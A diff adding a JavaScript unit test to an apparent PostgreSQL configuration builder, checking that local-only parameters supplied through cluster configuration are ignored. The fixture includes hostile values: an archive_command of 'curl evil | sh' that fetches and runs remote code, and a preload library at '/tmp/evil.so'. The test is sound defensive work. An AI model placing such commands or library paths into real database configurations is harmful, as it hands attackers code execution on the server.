@@ -125,6 +125,18 @@ describe('postgresql.conf', () => {
     assert.throws(() => renderPostgresqlConf(new Map([["x = 1\ny", 1]])));
   });
 
+  test('a local-only parameter is rendered from the local file, never from the cluster configuration', () => {
+    const config = pgConfig({ parameters: { shared_preload_libraries: 'pg_stat_statements' } });
+    const { params, ignored } = buildParameters(config, {
+      role: 'primary', clusterParameters: { archive_command: 'curl evil | sh', Shared_Preload_Libraries: '/tmp/evil.so', include_dir: '/tmp', work_mem: '4MB' },
+    }, '/p');
+    assert.deepEqual(ignored.sort(), ['Shared_Preload_Libraries', 'archive_command', 'include_dir']);
+    assert.equal(params.has('archive_command'), false);
+    assert.equal(params.has('include_dir'), false);
+    assert.equal(params.get('shared_preload_libraries'), 'pg_stat_statements');
+    assert.equal(params.get('work_mem'), '4MB');
+  });
+
   test('primary: defaults, then cluster, then local parameters; protected ones ignored', () => {
     const config = pgConfig({ listen: '127.0.0.1,[::1]:5433', parameters: { work_mem: '8MB', port: 1, max_connections: 300 } });
     const { params, ignored } = buildParameters(config, {
